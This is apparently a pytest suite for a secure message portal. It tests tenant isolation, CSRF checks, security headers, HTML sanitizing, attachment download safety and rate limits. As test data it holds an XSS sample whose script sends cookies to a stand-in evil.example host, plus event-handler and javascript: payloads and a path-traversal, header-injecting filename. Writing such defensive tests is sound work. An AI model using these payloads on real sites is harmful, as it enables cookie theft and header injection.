"""Isolation between tenants and recipients, CSRF, headers, sanitizing, downloads, limits."""

from __future__ import annotations

import re
from urllib.parse import unquote

import pytest
from sqlalchemy import select

from core.models import OutboxItem
from portal.security import PRE_COOKIE, SESSION_COOKIE

from .conftest import World, csrf_of

BOB = "bob@client.example"
CAROL = "carol@client.example"


# --- isolation -------------------------------------------------------------------------------


def test_a_session_of_tenant_a_never_sees_tenant_b(world: World) -> None:
    a = world.tenant("Acme", "acme.example")
    b = world.tenant("Globex", "globex.example")
    mine = world.seal(a, recipients=[BOB], subject="From Acme")
    theirs = world.seal(
        b,
        recipients=[BOB],  # the same address, at another tenant
        subject="From Globex",
        html="<p>globex html</p>",
        attachments=[("g.txt", "text/plain", b"globex file")],
    )
    world.sign_in(mine.tokens[BOB])
    assert world.client.get(f"/messages/{mine.message_id}").status_code == 200
    for path in (
        f"/messages/{theirs.message_id}",
        f"/messages/{theirs.message_id}/body",
        f"/messages/{theirs.message_id}/attachments/0",
    ):
        r = world.client.get(path)
        assert r.status_code == 404, path
        assert "From Globex" not in r.text and "globex" not in r.text
    inbox = world.client.get("/inbox")
    assert "From Acme" in inbox.text and "From Globex" not in inbox.text


def test_a_recipient_never_sees_another_recipients_message(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    for_bob = world.seal(t, recipients=[BOB], subject="For Bob only")
    for_carol = world.seal(
        t, recipients=[CAROL], subject="For Carol only", attachments=[("c.txt", "text/plain", b"c")]
    )
    for_both = world.seal(t, recipients=[BOB, CAROL], subject="For both")
    missing = "FFFFFFFFAAAAAAAAAAAA"
    world.sign_in(for_bob.tokens[BOB])
    assert world.client.get(f"/messages/{for_bob.message_id}").status_code == 200
    assert world.client.get(f"/messages/{for_both.message_id}").status_code == 200
    denied = world.client.get(f"/messages/{for_carol.message_id}")
    absent = world.client.get(f"/messages/{missing}")
    assert denied.status_code == absent.status_code == 404
    assert denied.text == absent.text  # no hint that the message exists
    assert world.client.get(f"/messages/{for_carol.message_id}/attachments/0").status_code == 404
    inbox = world.client.get("/inbox").text
    assert "For Bob only" in inbox and "For both" in inbox and "For Carol only" not in inbox

    # Carol's link does not open Bob's session onto Carol's message: she must verify herself
    r = world.client.get(f"/m/{for_carol.tokens[CAROL]}", follow_redirects=False)
    assert r.status_code == 200 and "Send me a code" in r.text


def test_revoked_access_closes_the_message_for_a_signed_in_recipient(world: World) -> None:
    from sqlalchemy import update

    from core.models import PortalAccess

    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB])
    world.sign_in(sealed.tokens[BOB])

    async def revoke() -> None:
        async with world.services.db.session() as s:
            await s.execute(update(PortalAccess).values(revoked=True))
            await s.commit()

    world.run(revoke)
    page = world.client.get(f"/messages/{sealed.message_id}")
    assert page.status_code == 410 and "revoked" in page.text  # issue 12: says so
    for sub in ("body", "attachments/0", "download.eml", "download.pdf", "thread.pdf"):
        assert world.client.get(f"/messages/{sealed.message_id}/{sub}").status_code == 404


def test_pages_need_a_session(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB])
    for path in ("/inbox", f"/messages/{sealed.message_id}", f"/messages/{sealed.message_id}/body"):
        r = world.client.get(path)
        assert r.status_code == 401
        assert "open your message link again" in r.text
    forged = world.new_client()
    forged.cookies.set(SESSION_COOKIE, "not-a-session")
    assert forged.get("/inbox").status_code == 401


# --- CSRF --------------------------------------------------------------------------------------


def _code_count(world: World) -> int:
    async def count() -> int:
        async with world.services.db.session() as s:
            return len((await s.execute(select(OutboxItem))).scalars().all())

    return world.run(count)


def test_pre_session_forms_need_the_signed_double_submit(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB])
    other = world.seal(t, recipients=[BOB])
    token = sealed.tokens[BOB]
    page = world.open_link(token)
    good = csrf_of(page.text)

    r = world.client.post(f"/m/{token}/code", data={})
    assert r.status_code == 403 and "This form has expired" in r.text
    r = world.client.post(f"/m/{token}/code", data={"csrf": "0" * 64})
    assert r.status_code == 403
    # a token made for another link does not fit this one
    other_csrf = csrf_of(world.open_link(other.tokens[BOB]).text)
    assert world.client.post(f"/m/{token}/code", data={"csrf": other_csrf}).status_code == 403
    # the field alone, without the cookie it is bound to, is refused
    fresh = world.new_client()
    assert fresh.post(f"/m/{token}/code", data={"csrf": good}).status_code == 403
    # a cross-site request is refused even with both
    r = world.client.post(
        f"/m/{token}/code", data={"csrf": good}, headers={"Origin": "https://evil.example"}
    )
    assert r.status_code == 403
    r = world.client.post(
        f"/m/{token}/code", data={"csrf": good}, headers={"Sec-Fetch-Site": "cross-site"}
    )
    assert r.status_code == 403
    assert world.client.post(f"/m/{token}/verify", data={"code": "123456"}).status_code == 403
    assert _code_count(world) == 0

    r = world.client.post(
        f"/m/{token}/code", data={"csrf": good}, headers={"Origin": "https://testserver"}
    )
    assert r.status_code == 200
    assert _code_count(world) == 1


def test_pre_session_cookie_attributes(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    page = world.open_link(world.seal(t, recipients=[BOB]).tokens[BOB])
    header = page.headers["set-cookie"].lower()
    assert header.startswith(PRE_COOKIE.lower() + "=")
    for attr in ("secure", "httponly", "samesite=strict", "path=/"):
        assert attr in header


def test_logout_needs_the_session_csrf_token(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB])
    world.sign_in(sealed.tokens[BOB])
    assert world.client.post("/logout", data={}).status_code == 403
    assert world.client.post("/logout", data={"csrf": "forged"}).status_code == 403
    assert world.client.get("/inbox").status_code == 200  # still signed in
    page = world.client.get("/inbox")
    r = world.client.post(
        "/logout", data={"csrf": csrf_of(page.text)}, headers={"Origin": "https://evil.example"}
    )
    assert r.status_code == 403
    assert world.client.get("/inbox").status_code == 200


# --- headers on every response -------------------------------------------------------------


def _assert_security_headers(r, *, frame: str = "DENY") -> None:
    h = r.headers
    csp = h.get("content-security-policy", "")
    assert "default-src" in csp, r.url
    assert "'unsafe-inline'" not in csp.split("script-src")[1] if "script-src" in csp else True
    if frame == "DENY":
        assert "frame-ancestors 'none'" in csp, r.url
    else:
        assert "frame-ancestors 'self'" in csp, r.url
    assert h.get("strict-transport-security", "").startswith("max-age="), r.url
    assert h.get("x-content-type-options") == "nosniff", r.url
    assert h.get("referrer-policy") == "no-referrer", r.url
    assert h.get("x-frame-options") == frame, r.url


def test_security_headers_on_every_response(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(
        t, recipients=[BOB], html="<p>hi</p>", attachments=[("a.txt", "text/plain", b"a")]
    )
    token = sealed.tokens[BOB]
    responses = [
        world.client.get("/healthz"),
        world.client.get("/readyz"),
        world.client.get("/static/portal.css"),
        world.client.get(f"/brand/{t}.css"),
        world.client.get("/no/such/page"),
        world.client.get("/logout"),  # 405
        world.client.post(f"/m/{token}/code", data={}),  # 403
        world.client.get("/inbox"),  # 401
        world.open_link("nope"),  # 404
        world.open_link(token),
        world.request_code(token),
    ]
    verified = world.submit_code(token, world.latest_code())
    responses += [
        verified,
        world.client.get("/inbox"),
        world.client.get(f"/messages/{sealed.message_id}"),
        world.client.get(f"/messages/{sealed.message_id}/attachments/0"),
    ]
    statuses = {r.status_code for r in responses}
    assert {200, 303, 401, 403, 404, 405} <= statuses
    for r in responses:
        _assert_security_headers(r)
    for r in responses[-3:]:
        assert r.headers["cache-control"] == "no-store"
    body = world.client.get(f"/messages/{sealed.message_id}/body")
    _assert_security_headers(body, frame="SAMEORIGIN")


def test_readable_500_page_with_headers(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB])
    world.sign_in(sealed.tokens[BOB])

    async def broken(*args, **kwargs):
        raise RuntimeError("boom: a bug, not an outage")

    monkeypatch.setattr(world.services.vault, "read", broken)
    world.client._transport.raise_server_exceptions = False  # type: ignore[attr-defined]
    r = world.client.get(f"/messages/{sealed.message_id}")
    assert r.status_code == 500
    assert "Something went wrong on our side" in r.text
    assert "boom" not in r.text and "Traceback" not in r.text
    _assert_security_headers(r)


def test_error_pages_are_readable(world: World) -> None:
    r = world.client.get("/logout")
    assert r.status_code == 405 and "<h1>This action is not allowed here</h1>" in r.text
    r = world.client.get("/no/such/page")
    assert r.status_code == 404 and "<h1>This link is not valid</h1>" in r.text
    assert r.headers["content-type"].startswith("text/html")


# --- message HTML --------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><script>alert('head')</script><style>body{background:url(https://tracker.example/css)}</style></head>
<body><p onclick="steal()">Dear Bob,</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="pixel">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<a href="javascript:alert(2)">click</a> <a href="https://example.org/info">info</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example"><input name="p"></form>
<div style="color:#333;background-image:url(https://tracker.example/bg)">styled</div>
<svg onload="alert(3)"></svg></body></html>"""


def test_html_body_is_sanitized_and_framed(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB], html=HOSTILE_HTML)
    world.sign_in(sealed.tokens[BOB])
    page = world.client.get(f"/messages/{sealed.message_id}")
    frame = re.search(r"<iframe[^>]*>", page.text)
    assert frame, "the HTML body is shown in a frame"
    tag = frame.group(0)
    assert f'src="/messages/{sealed.message_id}/body"' in tag
    assert "sandbox=" in tag
    assert "allow-scripts" not in tag and "allow-same-origin" not in tag
    assert "Dear Bob" not in page.text  # the page itself holds no message HTML

    body = world.client.get(f"/messages/{sealed.message_id}/body")
    assert body.status_code == 200
    html = body.text.lower()
    assert "dear bob" in html and "styled" in html
    assert "<script" not in html and "alert(" not in html
    assert "onerror" not in html and "onclick" not in html and "onload" not in html
    assert "tracker.example" not in html and "evil.example" not in html
    assert "javascript:" not in html
    assert "<iframe" not in html and "<form" not in html and "<input" not in html
    assert "data:" not in html  # data: images are refused like remote ones
    assert 'alt="inline"' in html  # the image's words stay
    assert 'href="https://example.org/info"' in html
    assert 'rel="noopener noreferrer"' in html
    csp = body.headers["content-security-policy"]
    assert "default-src 'none'" in csp
    assert "img-src 'none'" in csp
    assert "script-src" not in csp  # falls back to default-src 'none'
    assert "sandbox" in csp

    text_view = world.client.get(f"/messages/{sealed.message_id}?view=text")
    assert "<iframe" not in text_view.text and "Hello Bob" in text_view.text


def test_plain_text_body_is_escaped(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(
        t, recipients=[BOB], subject="<b>bold</b>", text="<script>alert(1)</script>"
    )
    world.sign_in(sealed.tokens[BOB])
    page = world.client.get(f"/messages/{sealed.message_id}").text
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;b&gt;bold&lt;/b&gt;" in page


# --- downloads -----------------------------------------------------------------------------


def test_hostile_attachment_filename(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    hostile = '../../etc/pass"wd;\r\nX-Injected: 1\x00 Résumé 履歴書.html'
    sealed = world.seal(
        t,
        recipients=[BOB],
        attachments=[(hostile, "text/html", b"<script>alert(1)</script>")],
    )
    world.sign_in(sealed.tokens[BOB])
    r = world.client.get(f"/messages/{sealed.message_id}/attachments/0")
    assert r.status_code == 200
    assert r.content == b"<script>alert(1)</script>"
    assert "x-injected" not in {k.lower() for k in r.headers.keys()}
    assert r.headers["content-type"] == "application/octet-stream"  # never text/html
    assert r.headers["x-content-type-options"] == "nosniff"
    cd = r.headers["content-disposition"]
    assert cd.startswith("attachment; ")
    assert "\r" not in cd and "\n" not in cd
    fallback = re.search(r'filename="([^"]*)"', cd)
    assert fallback and fallback.group(1).isascii()
    assert "/" not in fallback.group(1) and "\\" not in fallback.group(1)
    assert not fallback.group(1).startswith(".")
    utf8 = unquote(cd.split("filename*=UTF-8''", 1)[1])
    assert "Résumé 履歴書.html" in utf8
    assert "/" not in utf8 and '"' not in utf8 and "\n" not in utf8 and "\x00" not in utf8
    assert "sandbox" in r.headers["content-security-policy"]


def test_attachment_index_out_of_range(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    sealed = world.seal(t, recipients=[BOB], attachments=[("a.txt", "text/plain", b"a")])
    world.sign_in(sealed.tokens[BOB])
    assert world.client.get(f"/messages/{sealed.message_id}/attachments/1").status_code == 404
    assert world.client.get(f"/messages/{sealed.message_id}/attachments/-1").status_code == 404


# --- rate limits ---------------------------------------------------------------------------


def test_code_sends_are_rate_limited(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    token = world.seal(t, recipients=[BOB]).tokens[BOB]
    for _ in range(5):
        assert world.request_code(token).status_code == 200
    r = world.request_code(token)
    assert r.status_code == 429
    assert "Too many attempts" in r.text
    assert len(world.codes()) == 5
    # the limit is per link and held in the database: a new browser is limited too
    assert world.request_code(token, client=world.new_client()).status_code == 429


def test_failures_are_rate_limited_across_codes(world: World) -> None:
    t = world.tenant("Acme", "acme.example")
    token = world.seal(t, recipients=[BOB]).tokens[BOB]
    for _ in range(2):
        world.request_code(token)
        good = world.latest_code()
        for _ in range(5):
            bad = f"{(int(good) + 7) % 1_000_000:06d}"
            assert world.submit_code(token, bad).status_code == 400
    world.request_code(token)
    r = world.submit_code(token, world.latest_code())
    assert r.status_code == 429
    assert SESSION_COOKIE not in r.headers.get("set-cookie", "")
